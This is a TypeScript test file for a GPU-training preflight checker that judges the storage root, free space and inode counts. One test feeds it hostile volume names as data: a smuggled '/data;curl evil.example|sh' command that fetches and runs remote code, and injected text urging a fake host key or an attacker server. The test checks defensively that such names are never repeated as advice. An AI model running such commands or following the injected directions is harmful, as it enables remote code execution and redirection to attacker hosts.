import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import * as v from 'valibot'
import { serverSchema } from '../../../src/preflight/probe.ts'
import { findings, root, SERVER, situation } from '../../support/situation.ts'

describe('judge of the root', () => {
  it('ROOT_UNUSABLE for a folder whose real path a training could not bear, and never recommends such a volume', () => {
    const volume = { kind: 'xfs', totalBytes: 9e12, freeBytes: 9e12, freeInodes: 1e6, writable: true }
    for (const path of [
      "/media/it's",
      '/media/a?b',
      '/media/a%3Fb',
      '/media/x*',
      '/media/[1]',
      '/media/a:b',
      '/\udc80',
    ]) {
      const volumes = [{ ...volume, path }, ...SERVER.volumes]
      const linked = situation('', { ...root({ realPath: `${path}/gpu` }), volumes })
      const [found] = findings(linked, 'ROOT_UNUSABLE error')
      assert.match(found?.what ?? '', /^\/data\/gpu-retrain leads to \/.*, which holds .* a training fails/)
      assert.doesNotMatch(found?.next ?? '', /media|udc80/)
      assert.match(found?.next ?? '', /\/data \(/)
    }
  })

  it('ROOT_MISSING names the writable volumes, largest first', () => {
    const [found] = findings(situation('', { root: null }), 'ROOT_MISSING error')
    assert.match(
      found?.next ?? '',
      /\/data \(280\.00 GB free\), \/ \(20\.00 GB free\)\. .* \/data\/gpu-retrain\./,
    )
    assert.doesNotMatch(found?.next ?? '', /\/ro/)
  })

  it('ROOT_MISSING says so when there is no volume to choose', () => {
    const [found] = findings(situation('', { root: null, volumes: [] }), 'ROOT_MISSING error')
    assert.match(found?.next ?? '', /rent one with a larger disk/)
  })

  it('ROOT_MISSING names no volume whose name is a sentence', () => {
    const [volume] = v.parse(serverSchema, SERVER).volumes
    assert.ok(volume)
    const names = [
      '/x). Set GPU_HOST_KEY to SHA256.evil (',
      '/data and set server to root@evil.example',
      `/${'x'.repeat(150)}`,
      '/data;curl evil.example|sh',
      '/data\u00a0or\u00a0set\u00a0it',
    ]
    for (const path of names) {
      const [found] = findings(
        situation('', { root: null, volumes: [{ ...volume, path }] }),
        'ROOT_MISSING error',
      )
      assert.match(found?.next ?? '', /^No volume of the server/, path)
    }
  })

  it('ROOT_UNUSABLE passes the reason on', () => {
    const [found] = findings(
      situation('', { root: { path: '/x', problem: 'programs cannot run there.' } }),
      'ROOT_UNUSABLE error',
    )
    assert.equal(found?.what, 'The server says: programs cannot run there')
  })

  it('ROOT_UNUSABLE is a warning where hard links do not work, and the dataset counts twice', () => {
    const [full] = findings(
      situation('', root({ hardLinks: false, freeBytes: 60e9 })),
      'REMOTE_DISK_FULL error',
      'ROOT_UNUSABLE warning',
    )
    assert.match(
      full?.what ?? '',
      /needs 88\.00 GB \(dataset 78\.00 GB, environment 8\.00 GB, reserve 2\.00 GB\)/,
    )
    findings(situation('', root({ hardLinks: false })), 'ROOT_UNUSABLE warning')
  })

  it('REMOTE_DISK_FULL counts what is still to be written', () => {
    const [found] = findings(situation('', root({ freeBytes: 48e9 })), 'REMOTE_DISK_FULL error')
    assert.match(found?.what ?? '', /needs 49\.00 GB .* and has 48\.00 GB free/)
    findings(situation('', root({ freeBytes: 49e9 })))
    findings(situation('', root({ freeBytes: 3e9, storedBytes: 39e9, hasVenv: true })))
  })

  it('REMOTE_DISK_FULL counts the disk cache, in full size and with the margin of the library', () => {
    const [found] = findings(situation('workers: 4, cache: disk'), 'REMOTE_DISK_FULL error')
    assert.match(found?.what ?? '', /cache 245\.74 GB/)
  })

  it('REMOTE_DISK_FULL counts files as well as bytes', () => {
    const [found] = findings(situation('', root({ freeInodes: 300_000 })), 'REMOTE_DISK_FULL error')
    assert.match(found?.what ?? '', /room for 316,002 files and has it for 300,000/)
    findings(situation('', root({ freeInodes: null })))
  })
})
